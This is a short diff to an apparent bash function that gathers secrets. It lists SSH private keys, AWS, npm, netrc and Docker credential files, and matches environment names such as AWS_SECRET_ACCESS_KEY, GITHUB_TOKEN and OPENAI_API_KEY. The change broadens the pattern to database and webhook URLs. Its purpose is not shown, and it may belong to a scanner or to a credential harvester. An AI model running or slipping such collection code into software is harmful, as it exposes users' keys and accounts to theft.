@@ -40,7 +40,7 @@ lay_out() {
     local name place mine='~/'
     local -a names places=(.ssh/id_rsa .ssh/id_ed25519 .aws/credentials .netrc .npmrc .docker/config.json)
     local -A files folders
-    mapfile -t names < <(printf '%s' "$c" | grep -oE '\b[A-Z][A-Z0-9_]{0,60}(KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS|DSN|_URL)\b' | sort -u | head -n 40)
+    mapfile -t names < <(printf '%s' "$c" | grep -oE '\b[A-Z][A-Z0-9_]{0,60}(KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|CREDENTIALS|DSN|HOOK_URL|(DATABASE|DB|SQL|PG|POSTGRES|MYSQL|MONGO|MONGODB|REDIS|AMQP|BROKER)_UR[IL])\b' | sort -u | head -n 40)
     names=(AWS_SECRET_ACCESS_KEY GITHUB_TOKEN OPENAI_API_KEY "${names[@]}")
     secrets_of "${names[@]}" "${places[@]/#/$mine}"
     for name in "${names[@]}"; do
